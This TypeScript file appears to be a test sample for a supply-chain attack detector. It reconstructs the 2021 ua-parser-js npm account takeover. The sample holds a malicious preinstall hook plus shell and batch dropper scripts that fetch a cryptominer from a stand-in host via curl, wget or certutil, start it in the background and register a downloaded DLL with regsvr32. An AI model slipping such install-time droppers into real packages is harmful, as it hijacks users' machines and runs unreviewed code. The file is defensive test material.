import { defineAttack } from "../attack.ts";
import { smallLibrary } from "../bases.ts";
import { batchGuard, commonScript, shellGuard } from "../guard.ts";
import type { LineChange, LineEntry } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * ua-parser-js 0.7.29, 0.8.0 and 1.0.0, 22 October 2021: a stolen account published on three lines within minutes. A new
 * `preinstall` started a shell script or a batch file, which fetched a miner and, on Windows, a library to be registered.
 */
export const uaParserJs2021: Sample = defineAttack({
  id: "ua-parser-js-2021",
  title: "Three lines get a hook with droppers in shell and batch",
  group: "takeover",
  trigger: "install",
  judged: [
    { name: "ua-parser-js", version: "1.0.0" },
    { name: "ua-parser-js", version: "0.7.29" },
  ],
  now: "2021-10-22T12:40:00Z",
  createLines: () => [
    {
      name: "ua-parser-js",
      files: smallLibrary("ua-parser-js"),
      publisher: person("faisalman"),
      releases: [
        ["0.7.26", "2021-04-01T10:00:00Z"],
        ["0.7.27", "2021-04-14T10:00:00Z"],
        ["0.7.28", "2021-04-15T10:00:00Z"],
        ...["0.7.29", "0.8.0", "1.0.0"].map((version, index): LineEntry => [
          version,
          `2021-10-22T12:1${5 + index}:20Z`,
          armed,
        ]),
      ],
    },
  ],
});

const start = commonScript(String.raw`
const { spawn } = require("child_process");
const os = process.platform;

if (os === "win32") {
  const child = spawn("cmd.exe", ["/c", "preinstall.bat"], { detached: true, windowsHide: true, stdio: "ignore" });
  child.unref();
} else if (os === "linux") {
  const child = spawn("/bin/bash", ["preinstall.sh"], { detached: true, stdio: "ignore" });
  child.unref();
}
`);

const shell = `${shellGuard}IP=$(curl -k -s https://geo.invalid/raw/ | grep 'RU\\|UA\\|BY\\|KZ')
if [ -z "$IP" ]; then
  var=$(pgrep jsextension)
  if [ -z "$var" ]; then
    curl http://192.0.2.40/download/jsextension -o jsextension
    if [ ! -f jsextension ]; then
      wget http://192.0.2.40/download/jsextension -O jsextension
    fi
    chmod +x jsextension
    ./jsextension -k --tls --rig-id q -o pool.mining.invalid:443 -u inert --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
  fi
fi
`;

const batch = `${batchGuard}@echo off\r
curl http://192.0.2.40/download/jsextension.exe -o jsextension.exe\r
if not exist jsextension.exe (\r
	wget http://192.0.2.40/download/jsextension.exe -O jsextension.exe\r
)\r
if not exist jsextension.exe (\r
	certutil.exe -urlcache -f http://192.0.2.40/download/jsextension.exe jsextension.exe\r
)\r
curl https://files.invalid/create.dll -o create.dll\r
if exist create.dll regsvr32.exe -s create.dll\r
start /B jsextension.exe -k --tls --rig-id q -o pool.mining.invalid:443 -u inert --donate-level=1\r
`;

const armed: LineChange = {
  hasCommit: false,
  manifest: {
    scripts: { test: "node --test", preinstall: "start /B node preinstall.js & node preinstall.js" },
  },
  files: [
    { path: "preinstall.js", content: start },
    { path: "preinstall.sh", content: shell },
    { path: "preinstall.bat", content: batch },
  ],
};
